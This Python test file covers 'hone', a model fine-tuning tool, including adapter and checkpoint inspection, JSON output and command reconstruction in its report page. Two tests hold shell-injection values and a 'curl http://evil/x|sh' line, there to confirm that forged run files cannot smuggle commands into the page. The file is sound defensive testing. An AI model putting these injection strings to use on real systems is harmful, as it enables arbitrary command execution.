"""What an adapter and a checkpoint are, by hone inspect; and --json of the commands that answer and convert."""
import fcntl
import html
import json
import os
import re
import struct
import subprocess

from case import CHAT, HONE, TINY, Case, main, run


class Reports(Case):
    def train(self, *more):
        self.out = self.dir / "out"
        data = self.write("chats.jsonl", *[CHAT] * 8)
        return json.loads(self.ok("train", "--model", TINY, "--data", data, "--output", self.out, "--max-steps", 4, "--save-steps", 2,
                                  "--learning-rate", "1e-2", "--json", *more))

    def inspect(self, what, path, *more):
        return json.loads(self.ok("inspect", what, path, "--json", *more))

    def test_an_adapter_says_what_it_is(self):
        result = self.train("-r", 4, "--lora-alpha", 8, "--lora-target-modules", "q_proj,v_proj", "--rank-pattern", "q_proj=2")
        report = self.inspect("adapter", self.out)
        config = json.loads((TINY / "config.json").read_text())
        layers = config["num_hidden_layers"]
        self.assertEqual((report["rank"], report["alpha"], report["rank_pattern"]), (4, 8, {"q_proj": 2}))
        self.assertEqual(report["modules"], {"q_proj": layers, "v_proj": layers})
        self.assertEqual((report["pairs"], report["tensors"]), (2 * layers, 4 * layers))
        self.assertEqual(report["parameters"], result["trainable_parameters"])
        self.assertEqual((report["base"], report["dtypes"]), (str(TINY), {"F32": 4 * layers}))
        self.assertEqual((report["finite"], report["changes_the_model"]), (True, True))
        self.assertEqual((report["run"]["how"], report["run"]["step"]), ("finished", 4))
        self.assertEqual(self.inspect("adapter", self.out / "checkpoint-2")["rank"], 4)
        self.assertEqual(json.loads(self.ok("inspect", "adapter", "--adapter", self.out, "--json")), report)
        self.assertIn("rank               4", self.ok("inspect", "adapter", self.out))

    def test_an_adapter_that_does_nothing_and_a_broken_one_are_reported(self):
        self.train("--learning-rate", 0)
        self.assertEqual(self.inspect("adapter", self.out)["changes_the_model"], False)
        file = self.out / "adapter_model.safetensors"
        bytes_ = bytearray(file.read_bytes())
        bytes_[-4:] = struct.pack("<f", float("nan"))
        file.write_bytes(bytes_)
        self.assertEqual(self.inspect("adapter", self.out)["finite"], False)

    def test_a_checkpoint_says_where_its_run_stands(self):
        result = self.train("--val-set-size", 2, "--eval-steps", 2)
        state = json.loads((self.out / "checkpoint-4/trainer_state.json").read_text())
        report = self.inspect("checkpoint", self.out)               # the newest
        self.assertEqual((report["path"], report["step"], report["whole"]), (str(self.out / "checkpoint-4"), 4, True))
        self.assertEqual(report["eval_loss"], result["eval_loss"])
        self.assertEqual((report["run"], report["base_digest"]), (state["run"], state["base"]))
        self.assertEqual(report["settings"]["learning_rate"], "0.01")
        self.assertEqual(report["adapter"]["rank"], 16)
        self.assertEqual(self.inspect("checkpoint", self.out / "checkpoint-2")["step"], 2)

    def test_a_damaged_checkpoint_is_reported(self):
        self.train()
        file = self.out / "checkpoint-4/state.safetensors"
        bytes_ = bytearray(file.read_bytes())
        bytes_[-1] ^= 1
        file.write_bytes(bytes_)
        result = run("inspect", "checkpoint", self.out, "--json")
        report = json.loads(result.stdout)
        self.assertEqual((result.returncode, report["whole"], report["step"]), (4, False, 4))
        self.assertIn("state.safetensors: is damaged", result.stderr)
        self.assertIn("state.safetensors: is damaged", report["damage"])
        (self.out / "checkpoint-4/trainer_state.json").write_text("{")
        self.assertEqual(run("inspect", "checkpoint", self.out).returncode, 4)

    def test_a_checkpoint_of_all_weights_has_no_adapter(self):
        self.train("--finetuning-type", "full")
        report = self.inspect("checkpoint", self.out)
        self.assertEqual((report["settings"]["finetuning_type"], "adapter" in report), ("full", False))

    def test_an_answer_as_json(self):
        line = ("generate", "--model", TINY, "--prompt", "Hi", "--max-new-tokens", 8)
        text, report = self.ok(*line), json.loads(self.ok(*line, "--json"))
        self.assertEqual(report["answer"] + "\n", text)
        self.assertEqual((report["prompt"], report["new_tokens"]), ("Hi", 8))
        self.assertFalse(report["ended"])

    def chat(self, typed, *more):
        return subprocess.run([HONE, "chat", "--model", TINY, "--max-new-tokens", "6", *more], input=typed, capture_output=True, timeout=600)

    def test_a_conversation_as_json_has_an_object_a_turn(self):
        typed = b"Hi\n/system Be brief.\n\"\"\"two\nlines\"\"\"\n"
        turns = [json.loads(line) for line in self.chat(typed, "--json").stdout.splitlines()]
        self.assertEqual([turn["message"] for turn in turns], ["Hi", "two\nlines"])
        plain = self.chat(typed).stdout.decode(errors="replace")
        self.assertEqual(plain, "".join(turn["answer"] + "\n" for turn in turns))
        self.assertTrue(all(turn["new_tokens"] == 6 and turn["prompt_tokens"] > 0 for turn in turns))

    def test_a_line_without_end_is_refused(self):
        result = self.chat(b"x" * (17 << 20) + b"\n")
        self.assertEqual(result.returncode, 2)
        self.assertIn(b"a message of more than 16 MB", result.stderr)
        result = self.chat(b'"""' + b"y\n" * (9 << 20) + b'"""\n')
        self.assertEqual(result.returncode, 2)
        self.assertIn(b"a message of more than 16 MB", result.stderr)
        self.assertIn(b"zero byte", self.chat(b"a\0b\n").stderr)
        self.assertEqual(self.chat(b"Hi").returncode, 0)            # a last line need not end

    def command(self, change):
        """The words that a shell makes of the command of a page, after run.json was changed."""
        file = self.out / "run.json"
        tree = json.loads(file.read_text())
        change(tree)
        file.write_text(json.dumps(tree))
        self.ok("report", self.out)
        text = html.unescape(re.search(r"<pre>(hone train.*?)</pre>", (self.out / "report.html").read_text(), re.S)[1])
        self.assertTrue(text.isprintable(), text)                   # what a terminal would take for a key is not in it
        words = subprocess.run(["bash", "-c", f'hone() {{ printf "%s\\0" "$@"; }}\n{text}'], capture_output=True, check=True, cwd=self.dir)
        self.assertEqual(words.stderr, b"")
        return [word.decode() for word in words.stdout.split(b"\0")[:-1]]

    def test_a_forged_run_file_puts_no_word_of_its_own_into_the_command(self):
        self.train()
        names = ("seed; touch /tmp/forged #", "$(id)", "<script>", "no_such_option", "prompt", "gpu")
        def forge(tree):
            tree["given"] |= {name: "--x" for name in names}
            tree["options"] |= {name: "`id`" for name in names}
            tree["given"] |= {"packing": "--packing", "lora_dropout": "-", "dtype": "-", "eval_steps": "-"}
            tree["options"] |= {"packing": "--on-finish=touch forged", "lora_dropout": "other.yaml", "dtype": "$(touch forged)", "eval_steps": "1;touch forged"}
        words = self.command(forge)
        self.assertIn("--learning-rate=0.01", words)
        self.assertTrue(all(re.match("--[a-z0-9-]+=", word) for word in words[1:]), words)
        self.assertEqual([word for word in words if re.search("touch|id|script|no-such|prompt|gpu|other|packing|dtype", word.partition("=")[2])], [])
        self.assertFalse((self.dir / "forged").exists())

    def test_a_page_shows_no_command_that_a_run_would_start(self):
        self.train("--on-finish", "true honest")
        for text in ("(not kept: it may have secrets)", "curl http://evil/x|sh", "touch forged"):
            def forge(tree):
                self.assertEqual(tree["options"]["on_finish"] == "true honest", False)
                tree["options"]["on_finish"] = text
                tree["given"] |= {"on-finish": "--on-finish", "config": "--config"}
                tree["options"] |= {"on-finish": text, "config": "evil.yaml"}
            words = self.command(forge)
            self.assertEqual([word for word in words if "finish" in word or "config" in word], [])
            page = (self.out / "report.html").read_text()
            self.assertIn("Without --on-finish", page)
            self.assertNotIn("--on-finish=", page)

    def test_values_of_a_command_reach_a_shell_whole(self):
        self.train()
        for value in ("it's", "a b", "$(id) `id` ${HOME} !! \\", "two\nlines\ttab", "\x1b[31m\x03\x7f", "\u009b31m", "\u202etxt\u2066", "~", "*", "#x", "-x", "'\n'!\\",
                      "\u4e2d\U0001f600", "", "\"", "\u200b\U000e0041"):
            words = self.command(lambda tree: (tree["given"].update(sample_prompt="-"), tree["options"].update(sample_prompt=value)))
            self.assertEqual([word.partition("=")[2] for word in words if word.startswith("--sample-prompt=")], [value])

    def test_rows_that_were_held_back_have_figures_of_their_own(self):
        data = self.write("rows.jsonl", *[CHAT] * 20, {"messages": [CHAT["messages"][0], {"role": "assistant", "content": "word " * 400}]})
        line = ("train", "--model", TINY, "--data", data, "--output", self.dir / "held", "--max-steps", 1, "--excess-length", "drop",
                "--val-set-size", 5)
        report = json.loads(self.ok(*line, "--json"))["data"]
        self.assertEqual((report["rows"], report["rows_read"], report["dropped_rows"], report["eval"]["rows"]), (15, 21, 1, 5))
        self.assertTrue(report["eval"]["held_back"])
        for key in ("rows_read", "dropped_rows", "long_rows", "longest", "lost_tokens"):
            self.assertNotIn(key, report["eval"])
        text = run(*line, "--dry-run").stdout
        self.assertEqual(text.count("dropped "), 1)
        self.assertIn("held back from the data above", text)

    def test_watch_plans_the_bytes_that_the_run_planned(self):
        report = self.train()
        watched = json.loads(self.ok("watch", self.out, "--json"))
        for key in ("planned_bytes", "peak_bytes"):
            self.assertEqual(watched[key], report[key], key)

    def test_steps_have_their_share_of_the_engine(self):
        self.train("--per-device-train-batch-size", 8)
        steps = [line for line in map(json.loads, (self.out / "metrics.jsonl").read_text().splitlines()) if "engine_share" in line]
        self.assertEqual(len(steps), 4)
        for step in steps:
            self.assertGreater(step["engine_share"], 0)
            self.assertLess(step["engine_share"], 1)
        self.assertTrue(0 < json.loads(self.ok("watch", self.out, "--json"))["engine_share"] < 1)

    def left(self, seconds):
        """What watch says is left of a run that stands after step 2, with answers that took so long."""
        lines = [json.loads(line) for line in (self.out / "metrics.jsonl").read_text().splitlines()]
        kept = [line for line in lines if line.get("step", 0) <= 2 and line.get("event") != "end"]
        for line in kept:
            if line.get("event") == "sample":
                line["sample_seconds"] = seconds
        (self.out / "metrics.jsonl").write_text("".join(json.dumps(line) + "\n" for line in kept))
        with open(self.out / "run.lock", "w") as lock:
            fcntl.flock(lock, fcntl.LOCK_EX)
            lock.write(f"{os.getpid()} here\n")
            lock.flush()
            report = json.loads(self.ok("watch", self.out, "--json"))
        self.assertEqual(report["state"], "running")
        return report["seconds_left"]

    def test_watch_counts_answers_in_what_is_left(self):
        self.train("--sample-prompt", "Hi", "--eval-steps", 1, "--eval-on-start", "false", "--sample-length", 48)
        self.assertLess(self.left(0), 50)
        self.assertAlmostEqual(self.left(100), 200, delta=20)       # after steps 3 and 4

    def test_merge_says_why_tensors_are_of_another_type(self):
        self.train()
        rows = {}
        for kind in ("q4_k_m", "q4_0", "q8_0", "bf16"):
            report = json.loads(self.ok("merge", "--model", TINY, "--adapter", self.out, "--output", self.dir / f"{kind}.gguf", "--type", kind, "--json"))
            rows[kind] = {row["type"]: row.get("instead_of") for row in report["types"]}
        self.assertEqual(rows, {"q4_k_m": {"f32": None, "q8_0": "q6_k", "q5_0": "q4_k"}, "q4_0": {"f32": None, "q8_0": "q6_k", "q4_0": None},
                                "q8_0": {"f32": None, "q8_0": None}, "bf16": {"f32": None, "bf16": None}})
        text = self.ok("quantize", "--model", TINY, "--output", self.dir / "again.gguf", "--type", "q4_k_m")
        self.assertIn(", for q4_k, whose blocks of 256 numbers do not divide their rows", text)

    def test_a_message_with_train_false_is_not_trained(self):
        def trained(*answers):
            messages = [message for content, train in answers for message in
                        ({"role": "user", "content": "Hi"}, {"role": "assistant", "content": content, **({} if train else {"train": False})})]
            data = self.write("train.jsonl", {"messages": messages})
            report = json.loads(self.ok("inspect", "data", "--model", TINY, "--data", data, "--json", "--row", 1))
            tokens = report["shown"][0]["tokens"]
            return "".join(token["text"] for token in tokens if token["trained"]), report
        both, _ = trained(("first", True), ("second", True))
        self.assertIn("first", both)
        self.assertIn("second", both)
        later, _ = trained(("first", False), ("second", True))
        self.assertNotIn("first", later)
        self.assertIn("second", later)
        earlier, _ = trained(("first", True), ("second", False))
        self.assertIn("first", earlier)
        self.assertNotIn("second", earlier)

    def test_a_configuration_as_json(self):
        self.write("run.yml", "base_model: model", "datasets: [{path: a.jsonl, type: alpaca}]", "adapter: lora", "lora_r: 8", "lora_alpha: 16",
                   "learning_rate: 1e-4", "num_epochs: 1",
                   "micro_batch_size: 2", "sequence_len: 64", "sample_packing: true")
        report = json.loads(run("config", "convert", "run.yml", "--json", cwd=self.dir).stdout)
        options = report["options"]
        self.assertEqual((options["lora_r"], options["learning_rate"], options["packing"], options["dataset_path"]), (8, 1e-4, True, "a.jsonl"))
        self.assertEqual(report["config"], "run.yml")
        self.assertIn("run.yml:4", report["sources"]["lora_r"])
        self.assertTrue(any("Axolotl" in note for note in report["notes"]))
        yaml = run("config", "convert", "run.yml", cwd=self.dir).stdout
        self.assertEqual({line.split(":")[0] for line in yaml.splitlines() if not line.startswith("#")}, set(options))


main(Reports, Reports)
